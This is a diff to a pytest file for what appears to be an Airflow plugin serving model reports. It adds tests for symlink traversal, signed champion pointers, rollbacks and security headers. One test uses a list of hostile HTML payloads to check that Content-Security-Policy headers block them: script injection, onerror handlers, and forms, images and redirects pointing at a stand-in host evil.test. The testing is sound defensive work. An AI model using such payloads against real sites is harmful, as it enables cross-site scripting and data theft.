@@ -9,10 +9,12 @@ import re
 import subprocess
 import sys
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import documents
+import key_pairs
 import pytest
 import requests
 import skin_models
@@ -36,6 +38,7 @@ from skin_models import data_link, readable, report_link
 from skin_pipeline import journal
 from skin_pipeline.contracts import RESULT, Notice, dump
 from skin_pipeline.release import registry
+from skin_pipeline.release.signing import Keys
 from skin_pipeline.storage import FolderStore, Store
 
 REPORTS = {"gate/4f1ac2/report.html", DOCS, "split/aa11/docs/checks.html"}
@@ -184,6 +187,23 @@ def test_an_empty_store_tells_how_to_get_the_first_model(client: Any, empty: Fol
     assert "skin_training" in page.text
 
 
+@pytest.mark.parametrize("linked", ["gate/4f1a/report.html", "gate/4f1a", "gate"])
+def test_a_link_in_the_store_shows_no_file_of_the_server(
+    client: Any, empty: FolderStore, tmp_path: Path, linked: str
+) -> None:
+    key = "gate/4f1a/report.html"
+    secrets = tmp_path / "home"
+    (secrets / key).parent.mkdir(parents=True)
+    (secrets / key).write_text("password: hunter2")
+    (empty.root / linked).parent.mkdir(parents=True)
+    (empty.root / linked).symlink_to(secrets / linked)
+
+    answer = client.get(f"/report/{key}")
+    assert "hunter2" not in answer.text
+    assert answer.status_code == 503
+    assert f"{linked} in the folder" in html.unescape(answer.text)
+
+
 def test_judged_runs_are_drawn_over_time_as_soon_as_there_are_two(
     client: Any, empty: FolderStore
 ) -> None:
@@ -224,6 +244,66 @@ def test_each_judged_run_leads_to_its_data_docs(client: Any, empty: FolderStore)
     text = client.get("/").text
     assert text.count(f'href="view/{DOCS}"') == text.count('aria-label="Report of run') == 9
     assert "Data Docs of" in client.get(f"/report/{DOCS}").text
+
+
+@pytest.fixture
+def keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Keys:
+    """A key pair that this installation signs and checks with."""
+    made = replace(key_pairs.write(tmp_path, "ours"), state=str(tmp_path / "state"))
+    monkeypatch.setenv("SKIN_PUBLIC_KEY", made.public)
+    monkeypatch.setenv("SKIN_STATE", made.state)
+    return made
+
+
+def test_without_a_key_a_pointer_is_shown_as_not_verified(client: Any, empty: FolderStore) -> None:
+    fill(empty)
+    real = client.get("/").text.split("<section")[1]
+    assert "Its pointer is not verified, as SKIN_PUBLIC_KEY names no key here." in real
+    assert "Do not use" not in real
+    assert re.findall(r'data-label="Signed"><span>(.*?)</span>', real) == ["no", "no"]
+
+
+def test_with_a_key_the_page_says_which_champion_not_to_use_and_why(
+    client: Any, empty: FolderStore, keys: Keys
+) -> None:
+    fill(empty)
+    before = empty.read(f"models/{REAL}/champion.json")
+    assert f"models sign {REAL}" in client.get("/").text.split("Do not use this champion.")[1]
+    now = registry.champion(empty, REAL)
+    move = {"alias": "champion", "by": "ops", "reason": "looked at"}
+    assert registry.move(empty, REAL, now.previous, **move, keys=Keys(private=keys.private))
+    real = client.get("/").text.split("<section")[1]
+    assert "Its pointer is signed with the trusted key." in real
+    assert "Do not use" not in real
+    assert re.findall(r'data-label="Signed"><span>(.*?)</span>', real) == ["yes", "no", "no"]
+    empty.swap(
+        f"models/{REAL}/champion.json", before, empty.tagged(f"models/{REAL}/champion.json")[1]
+    )
+    real = client.get("/").text.split("<section")[1]
+    assert "Do not use this champion." in real
+    empty.remove(f"models/{REAL}/champion.json")
+    assert "its pointer was taken away" in client.get("/").text.split("<section")[1]
+
+
+def test_a_key_that_is_not_there_hides_no_model(
+    client: Any, empty: FolderStore, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fill(empty)
+    monkeypatch.setenv("SKIN_PUBLIC_KEY", "/nowhere.pem")
+    real = client.get("/").text.split("<section")[1]
+    assert "(SKIN_PUBLIC_KEY) is not there" in real
+    assert "0.831</dd>" in real
+
+
+def test_a_rollback_is_told_as_one(client: Any, empty: FolderStore) -> None:
+    fill(empty)
+    now, before = registry.moves(empty, REAL)[:2]
+    back = {"alias": "champion", "by": "ops", "reason": "false alarms", "rollback": True}
+    assert registry.move(empty, REAL, before.version, **back)
+    real = client.get("/").text.split("<section")[1]
+    assert real.count("rolled back on purpose") == 1
+    assert "false alarms" in real
+    assert now.version in real
 
 
 # --- the tab of a run ----------------------------------------------------------------------------
@@ -450,6 +530,70 @@ def test_loading_the_plugin_imports_nothing_heavy() -> None:
     )
     run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert run.stdout.strip().endswith("[]")
+
+
+# What a report could hold if somebody else can write into the store, and what forbids it there.
+FORBIDDEN = {
+    "<script>fetch('/api/v2/connections')</script>": ("default-src 'none'", "sandbox"),
+    "<img src=x onerror=alert(1)>": ("default-src 'none'", "sandbox"),
+    "<svg><script href='//evil.test/a.js'/></svg>": ("default-src 'none'", "sandbox"),
+    "<iframe src='/skin-models/'></iframe>": ("default-src 'none'",),
+    "<object data='//evil.test'></object><embed src='//evil.test'>": ("default-src 'none'",),
+    "<form action='//evil.test'><input name=password></form>": ("form-action 'none'", "sandbox"),
+    "<base href='//evil.test'>": ("base-uri 'none'",),
+    "<img src='//evil.test/seen.png'>": ("img-src data:",),
+    "<style>@import '//evil.test'; a { background: url(//evil.test) }</style>": (
+        "default-src 'none'",
+        "img-src data:",
+    ),
+    "<meta http-equiv=refresh content='0;url=//evil.test'>": ("sandbox",),
+    "<link rel=dns-prefetch href='//evil.test'>": (),
+}
+ALLOWED = {"allow-same-origin", "allow-downloads"}  # in the sandbox; neither runs or leads anything
+
+
+@pytest.mark.parametrize("hostile", FORBIDDEN)
+def test_a_report_that_a_stranger_wrote_can_do_nothing_in_the_reader_s_name(
+    client: Any, empty: FolderStore, hostile: str
+) -> None:
+    empty.put("gate/4f1ac2/report.html", hostile.encode())
+    answer = client.get("/report/gate/4f1ac2/report.html")
+    assert answer.text == hostile
+    policy = [rule.split() for rule in answer.headers["Content-Security-Policy"].split(";")]
+    rules = {name: set(values) for name, *values in policy}
+    assert len(rules) == len(policy)
+    for rule in FORBIDDEN[hostile]:
+        name, *values = rule.split()
+        assert rules[name] == (set(values) if values else ALLOWED)
+    assert set(rules) == {
+        *("default-src", "style-src", "img-src", "frame-ancestors"),
+        *("base-uri", "form-action", "sandbox"),
+    }
+    assert rules["style-src"] == {"'unsafe-inline'"}
+    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
+    assert answer.headers["X-DNS-Prefetch-Control"] == "off"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/",
+        "/run/skin_training/manual__new",
+        "/view/gate/4f1ac2/report.html",
+        "/report/gate/4f1ac2/report.html",
+    ],
+)
+def test_no_page_is_framed_by_strangers_kept_by_others_or_taken_for_something_else(
+    client: Any, empty: FolderStore, path: str
+) -> None:
+    empty.put("gate/4f1ac2/report.html", b"<h1>Report</h1>")
+    headers = client.get(path).headers
+    policy = headers["Content-Security-Policy"].split("; ")
+    assert {"default-src 'none'", "frame-ancestors 'self'", "form-action 'none'"} < set(policy)
+    assert headers["X-Content-Type-Options"] == "nosniff"
+    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
+    assert headers["Referrer-Policy"] == "same-origin"
+    assert headers["Cache-Control"] == "private, no-cache"
 
 
 # --- behind Airflow's own login ------------------------------------------------------------------
